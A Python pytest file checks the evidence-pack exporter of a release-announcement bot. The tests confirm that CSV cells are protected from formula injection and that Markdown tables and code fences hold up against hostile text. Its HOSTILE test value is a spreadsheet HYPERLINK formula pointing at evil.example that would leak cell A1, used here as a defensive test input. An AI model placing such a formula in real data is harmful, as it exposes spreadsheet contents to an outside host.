"""The evidence pack written out: CSV safe in a spreadsheet, Markdown whose tables hold, JSON with status's counts."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest

from adapters.export import file_name, render
from adapters.export.markdown import render_markdown
from adapters.export.sheet import COLUMNS, safe_cell
from bot.domain.commands import Acknowledge
from bot.domain.delivery import DeliveryStatus
from bot.domain.receipt import ReceiptSource
from bot.service.evidence import EvidencePack
from tests.service.conftest import World, make_world

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"click") | <b>bold</b> `tick`'


async def _pack(world: World, *, hostile: bool = False) -> EvidencePack:
    """Release 2.4 sent and acknowledged once; ``hostile``: one delivery failed with a formula for its error."""
    await world.ready_to_send()
    await world.say("send 2.4")
    await world.say("approve 2.4", actor="shell:lead")
    await world.herald.engine.run_until_idle()
    sam = next(d for d in world.store.deliveries.values() if d.target == "shell:@sam")
    await world.do(Acknowledge(actor="shell:sam", message_ref=sam.message_ref or "", source=ReceiptSource.BUTTON))
    if hostile:
        kim = next(k for k, d in world.store.deliveries.items() if d.target == "shell:@kim")
        world.store.deliveries[kim] = replace(world.store.deliveries[kim], status=DeliveryStatus.FAILED, error=HOSTILE)
    return await world.herald.desk.evidence("2.4")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_is_quoted(start: str) -> None:
    """A cell starting with = + - @ (or a tab or CR) gets a leading quote; it stays text."""
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_cells_are_left_as_they_are() -> None:
    """Text, numbers and times are unchanged; None is empty and a flag is yes or no."""
    assert [safe_cell(v) for v in ("shell:@sam", 3, "2026-11-27T12:00:00+00:00", None, True, False)] == [
        "shell:@sam",
        "3",
        "2026-11-27T12:00:00+00:00",
        "",
        "yes",
        "no",
    ]


async def test_the_csv_has_a_header_and_one_row_per_delivery_with_no_formula() -> None:
    """DictReader reads one row per delivery, in the ledger's order; a hostile error comes back quoted."""
    world = make_world()
    pack = await _pack(world, hostile=True)

    rows = list(csv.DictReader(io.StringIO(render(pack, "csv"), newline="")))

    assert [row["key"] for row in rows] == [d.key for d in pack.deliveries]
    assert tuple(rows[0]) == COLUMNS
    kim = next(row for row in rows if row["target"] == "shell:@kim")
    assert (kim["status"], kim["error"]) == ("failed", "'" + HOSTILE)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    sam = next(row for row in rows if row["target"] == "shell:@sam")
    assert (sam["medium"], sam["kind"], sam["acknowledged_here"], sam["group_name"]) == (
        "shell",
        "dm",
        "1",
        "Customer Support",
    )


async def test_the_json_is_one_object_whose_status_is_status_json() -> None:
    """The JSON holds the status report as ``herald status --json`` prints it, and every delivery."""
    world = make_world()
    pack = await _pack(world)

    data = json.loads(render(pack, "json"))

    assert data["format"] == "herald-evidence/1"
    assert data["status"] == (await world.herald.desk.status("2.4")).as_json()
    assert [d["key"] for d in data["deliveries"]] == [d.key for d in pack.deliveries]
    assert data["plan"]["as_announced"] is True
    assert data["plan"]["sha256"] == pack.plan.sha256
    assert data["receipts"][0]["person"] == "shell:sam"
    assert data["receipts"][0]["late"] is False
    assert "audit_head" in data


async def test_the_markdown_names_every_group_the_plan_hash_and_keeps_its_tables_whole() -> None:
    """Every group and the plan's SHA-256 are in the report; a pipe or markup in an error cannot break a row."""
    world = make_world()
    pack = await _pack(world, hostile=True)

    report = render_markdown(pack)

    for group in pack.status.groups:
        assert group.name in report
    assert pack.plan.sha256 is not None
    assert pack.plan.sha256 in report
    assert "(as announced)" in report
    row = next(line for line in report.splitlines() if "shell:@kim" in line and line.startswith("|"))
    assert row.count(" | ") == 9  # ten columns, none added by the error's pipe
    assert "<b>" not in report
    assert "\\<b\\>" in row


async def test_a_communique_with_backticks_stays_inside_its_fence() -> None:
    """A text holding a code fence is shown in a longer fence, so nothing after it turns into code."""
    world = make_world()
    await world.say("announce 2.4")
    await world.say("edit 2.4 engineering Acme Cloud 2.4 is live: ```run this``` https://example.com/releases/2.4")
    pack = await world.herald.desk.evidence("2.4")

    report = render_markdown(pack)

    assert "````text\nAcme Cloud 2.4 is live: ```run this```" in report


async def test_the_file_name_is_herald_product_version() -> None:
    """A pack is written as herald-<product>-<version>.<format>, the product made safe for a file name."""
    world = make_world()
    await world.say("announce 2.4")
    pack = await world.herald.desk.evidence("2.4")

    assert [file_name(pack, fmt) for fmt in ("md", "csv", "json")] == [
        "herald-acme-cloud-2.4.md",
        "herald-acme-cloud-2.4.csv",
        "herald-acme-cloud-2.4.json",
    ]


async def test_a_release_without_a_kept_plan_says_so_in_the_report() -> None:
    """Announced before plans were kept: the report says so, and marks the hash as the current plan's."""
    world = make_world()
    await world.say("announce 2.4")
    world.store.plans.clear()
    pack = await world.herald.desk.evidence("2.4")

    report = render_markdown(pack)

    assert f"`{pack.plan.sha256}` (current, not as announced)" in report
    assert "No copy of the plan was kept when this release was announced" in report
    assert "## The plan (current, not as announced)" in report
    assert json.loads(render(pack, "json"))["plan"]["as_announced"] is False
